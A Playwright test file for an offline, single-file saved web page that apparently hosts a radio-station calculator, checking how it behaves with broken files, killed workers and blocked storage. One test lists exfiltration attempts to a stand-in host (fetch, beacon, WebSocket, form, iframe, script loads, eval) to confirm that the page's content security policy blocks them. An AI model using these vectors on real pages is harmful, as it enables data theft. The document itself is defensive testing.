"""The saved page: one file, opened from disk, with no network and no server."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from engines import SAVED
from expected import numbers
from playwright.sync_api import Browser, Page, expect
from reading import assert_numbers, more, share
from visits import DESKTOP, READERS, START_MS, TABLET


class Saved:
    """One saved page."""

    def __init__(self, page: Page):
        self.page = page
        page.set_default_timeout(START_MS)
        page.add_init_script(path=READERS)

    def open(self, file: Path = SAVED, fragment: str = "") -> Page:
        """Open the file."""
        self.page.goto(file.as_uri() + fragment)
        return self.page

    def ready(self) -> Page:
        """The page once its own core has answered."""
        self.page.wait_for_function("() => document.querySelector('jw-app').stage === 'ready'", timeout=START_MS)
        expect(self.page.locator("jw-progress")).to_have_attribute("status", "complete", timeout=START_MS)
        return self.page


@pytest.fixture
def saved(browser: Browser) -> Iterator[Saved]:
    """A saved page in a context without a network."""
    context = browser.new_context(**DESKTOP, offline=True)
    yield Saved(context.new_page())
    context.close()


def test_controls_touched_while_python_starts_are_applied(browser: Browser) -> None:
    """Taps on a tablet before the core is ready count as soon as it is."""
    context = browser.new_context(**TABLET, offline=True)
    saved = Saved(context.new_page())
    page = saved.open()

    page.get_by_role("button", name="Station", exact=True).tap()
    page.get_by_role("button", name="2 m / 70 cm").tap()
    assert page.evaluate("() => document.querySelector('jw-app').stage") != "ready"
    saved.ready()

    assert "mode=fm" in page.url
    expect(page.locator("jw-matrix thead th[data-band]")).to_have_count(4)
    expect(page.locator("jw-matrix td").first).to_have_attribute("data-band", "6m")
    context.close()


@pytest.mark.parametrize("part", ["python", "packages", "core"])
def test_an_altered_file_says_so_and_keeps_its_tables(saved: Saved, tmp_path: Path, part: str) -> None:
    """A payload that is not the one the page was built with is refused in words; the built-in matrix stays."""
    lines = SAVED.read_text("utf-8").split("\n")
    at = next(index for index, line in enumerate(lines) if f'id="part-{part}"' in line) + 1
    middle = len(lines[at]) // 2
    lines[at] = lines[at][:middle] + ("A" if lines[at][middle] != "A" else "B") + lines[at][middle + 1 :]
    altered = tmp_path / "altered.html"
    altered.write_text("\n".join(lines), "utf-8")

    page = saved.open(altered)

    expect(page.get_by_role("alert")).to_contain_text("only the built-in tables can be shown", timeout=START_MS)
    assert_numbers(page, numbers())


def test_a_truncated_file_says_so(saved: Saved, tmp_path: Path) -> None:
    """A download that broke off still shows the built-in matrix, and says what does not work."""
    cut = tmp_path / "cut.html"
    whole = SAVED.read_bytes()
    cut.write_bytes(whole[: len(whole) // 2])

    page = saved.open(cut)

    expect(page.get_by_role("alert")).to_contain_text("only the built-in tables can be shown", timeout=START_MS)
    assert_numbers(page, numbers())


def test_a_killed_worker_is_replaced(saved: Saved) -> None:
    """When the worker is ended from outside the page answers the next request all the same."""
    page = saved.page
    page.add_init_script(
        "const Real = Worker; window.workers = [];"
        "window.Worker = class extends Real { constructor(...a) { super(...a); window.workers.push(this); } };"
    )
    saved.open()
    saved.ready()

    page.evaluate("() => window.workers[0].dispatchEvent(new ErrorEvent('error', {message: 'killed'}))")
    page.locator("#vswr").fill("2")
    page.keyboard.press("Tab")

    assert_numbers(page, numbers(vswr=2))
    assert page.evaluate("() => window.workers.length") == 2


def test_storage_that_is_blocked_is_no_obstacle(browser: Browser) -> None:
    """A page that may keep nothing works all the same."""
    context = browser.new_context(**DESKTOP, offline=True)
    saved = Saved(context.new_page())
    saved.page.add_init_script(
        "Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('no', 'SecurityError'); }});"
    )
    saved.open()
    page = saved.ready()

    more(page).get_by_role("button", name="Dark").click()

    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    assert_numbers(page, numbers())
    context.close()


ABLE = "only the built-in tables can be shown"
OBSTACLES = {
    "no worker": "delete window.Worker;",
    "worker refused": "window.Worker = class { constructor() { throw new DOMException('no', 'SecurityError'); } };",
    "no WebAssembly": """
      const Real = Blob;
      window.Blob = class extends Real {
        constructor(parts, options) {
          super(options?.type === 'text/javascript' ? ['delete self.WebAssembly;', ...parts] : parts, options);
        }
      };
    """,
}


def assert_tables_are_there(page: Page) -> None:
    """The tables that came with the file can be read, derivations included."""
    expect(page.get_by_role("heading", name="1.5 kW SSB on a mast")).to_be_visible()
    page.locator("jw-app summary", has_text="BNC").first.click()
    expect(page.locator("jw-app details[open]").get_by_text("The centre contact reaches")).to_be_visible()


@pytest.mark.parametrize("obstacle", OBSTACLES.values(), ids=OBSTACLES)
def test_without_a_core_the_tables_stay_and_the_page_says_so(saved: Saved, obstacle: str) -> None:
    """Where no core can be started the page says what it cannot do, and shows all the tables that came with it."""
    saved.page.add_init_script(obstacle)

    page = saved.open()

    expect(page.get_by_role("alert")).to_contain_text(
        f"calculation cannot start in this browser; {ABLE}", timeout=START_MS
    )
    expect(page.get_by_text("Starting the core")).to_have_count(0)
    assert_numbers(page, numbers())
    assert_tables_are_there(page)


OUT = "https://outside.invalid/"
BARRED = {
    "fetch": f"fetch('{OUT}')",
    "beacon": f"navigator.sendBeacon('{OUT}', 'x')",
    "socket": "new WebSocket('wss://outside.invalid/')",
    "events": f"new EventSource('{OUT}')",
    "image": f"new Image().src = '{OUT}'",
    "frame": f"append('iframe', {{src: '{OUT}'}})",
    "object": f"append('object', {{data: '{OUT}'}})",
    "media": f"append('audio', {{src: '{OUT}'}})",
    "style": f"append('link', {{rel: 'stylesheet', href: '{OUT}'}})",
    "prefetch": f"append('link', {{rel: 'prefetch', href: '{OUT}'}})",
    "form": f"append('form', {{action: '{OUT}'}}).submit()",
    "base": f"append('base', {{href: '{OUT}'}})",
    "script": f"append('script', {{src: '{OUT}'}})",
    "inline": "append('script', {textContent: 'window.ran = true'})",
    "handler": "append('b').setAttribute('onclick', 'window.ran = true')",
    "markup": "append('b').innerHTML = '<i>x</i>'",
    "evaluation": "window.eval('window.ran = true')",
    "worker": "new Worker('data:text/javascript,1')",
    "policy": "trustedTypes.createPolicy('other', {createHTML: (text) => text})",
}
"""What a script that got in might try, to carry something out or to bring more in."""

ATTEMPT = """() => new Promise((tell) => {
  const append = (name, values = {}) => document.body.appendChild(Object.assign(document.createElement(name), values));
  const heard = ({effectiveDirective}) => tell(effectiveDirective);
  document.addEventListener('securitypolicyviolation', heard, {once: true});
  // away from the driver's own call, in which text may be evaluated
  setTimeout(() => { %s; });
})"""


def test_the_policy_bars_every_way_out_that_it_can(saved: Saved) -> None:
    """Requests, frames, forms, foreign scripts, and text taken for script or markup are refused by the policy."""
    page = saved.open()
    page.wait_for_function("() => customElements.get('jw-app') !== undefined")

    barred = {name: page.evaluate(ATTEMPT % code) for name, code in BARRED.items()}

    requests = {barred[name] for name in ("fetch", "beacon", "socket", "events")}
    assert requests == {"connect-src"}
    assert {barred[name] for name in ("handler", "markup", "evaluation")} <= {
        *("require-trusted-types-for", "script-src", "script-src-attr")
    }
    assert barred["policy"] == "trusted-types"
    assert all(barred.values())
    assert page.evaluate("() => window.ran") is None
    assert page.url.startswith("file:")


def test_the_page_works_where_text_is_no_markup(saved: Saved) -> None:
    """Under its policy the page shows formulas and charts, and nothing of its own is barred."""
    saved.page.add_init_script(
        "window.barred = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.barred.push(`${event.effectiveDirective} ${event.sample}`));"
    )
    page = saved.open(fragment="#family=n&band=20m&power_w=400")
    saved.ready()

    page.locator("jw-derivation jw-match summary").first.click()
    expect(page.locator("jw-derivation math").first).to_be_visible()
    page.locator("jw-derivation summary", has_text="Charts").click()
    expect(page.locator("jw-derivation jw-chart .main-svg .scatterlayer").first).to_be_visible()
    for view in ("choose", "line", "kit", "fitout", "sweep", "matrix"):
        page.locator(f"jw-masthead [data-view={view}]").click()
        expect(page.locator(f"jw-{view}-view main")).to_be_visible()
    share(page).get_by_role("button", name="Put on a website").click()
    expect(page.locator("jw-website")).to_be_visible()

    assert page.evaluate("() => window.barred") == []


def test_a_policy_against_workers_is_said(saved: Saved, tmp_path: Path) -> None:
    """A browser told to run no workers shows the tables, and the page says that this is all."""
    barred = tmp_path / "barred.html"
    barred.write_text(SAVED.read_text("utf-8").replace("worker-src blob:", "worker-src 'none'", 1), "utf-8")

    page = saved.open(barred)

    expect(page.get_by_role("alert")).to_contain_text(ABLE, timeout=START_MS)
    assert_numbers(page, numbers())
    assert_tables_are_there(page)


def test_without_a_core_numbers_of_another_station_are_marked(saved: Saved) -> None:
    """Where no core can be started a changed control marks the numbers as another station's; a sheet says why."""
    saved.page.add_init_script(OBSTACLES["no worker"])
    page = saved.open()
    expect(page.get_by_role("alert")).to_be_visible(timeout=START_MS)
    expect(page.locator("#outdated")).to_have_text("")

    page.locator("#vswr").fill("3")
    page.keyboard.press("Tab")
    expect(page.locator("#outdated")).to_contain_text("these are the built-in numbers of a first visit")
    more(page).get_by_role("button", name="Method").click()

    expect(page.locator("jw-detail").get_by_role("status")).to_contain_text(ABLE)


def test_an_engine_that_cannot_unpack_says_so(saved: Saved) -> None:
    """A browser without DecompressionStream shows the built-in tables under a sentence that says why."""
    saved.page.add_init_script("delete window.DecompressionStream;")

    page = saved.open()

    expect(page.get_by_role("alert")).to_contain_text(ABLE, timeout=START_MS)
    assert_tables_are_there(page)


def test_a_worker_killed_at_a_request_is_replaced(saved: Saved) -> None:
    """A request whose worker dies after taking it is answered by the next worker, which is asked the question too."""
    page = saved.page
    page.add_init_script(
        """
        const Real = Worker;
        window.workers = [];
        window.Worker = class extends Real {
          constructor(...given) { super(...given); this.asked = 0; window.workers.push(this); }
          postMessage(message) {
            if (message.kind === 'ask') this.asked++;
            super.postMessage(message);
            if (!window.deadly) return;
            window.deadly = false;
            this.terminate();
            setTimeout(() => this.dispatchEvent(new ErrorEvent('error', {message: 'killed'})));
          }
        };
        """
    )
    saved.open()
    saved.ready()
    before = page.evaluate("() => window.workers[0].asked")

    page.evaluate("() => (window.deadly = true)")
    page.locator("#vswr").fill("3")
    page.keyboard.press("Tab")

    assert_numbers(page, numbers(vswr=3))
    assert page.evaluate("() => window.workers.map(({asked}) => asked)") == [before + 1, 2]


def test_full_storage_is_said(saved: Saved) -> None:
    """With storage full the page works, and says what it cannot keep when it should be kept."""
    saved.page.add_init_script(
        "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); };"
    )
    saved.open()
    page = saved.ready()

    more(page).get_by_role("button", name="Dark").click()

    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    expect(page.get_by_role("status").filter(has_text="keeps nothing for the page")).to_be_visible()
    page.locator("#vswr").fill("2")
    page.keyboard.press("Tab")
    assert_numbers(page, numbers(vswr=2))


def test_the_file_offers_no_copy_of_itself(saved: Saved) -> None:
    """A browser opens a link to the file instead of saving it, and with that would lose the view: there is none."""
    page = saved.open(fragment="#vswr=2")
    saved.ready()

    expect(share(page).get_by_role("button", name="Copy link")).to_be_visible()
    expect(page.get_by_role("link", name="Save for offline use")).to_have_count(0)
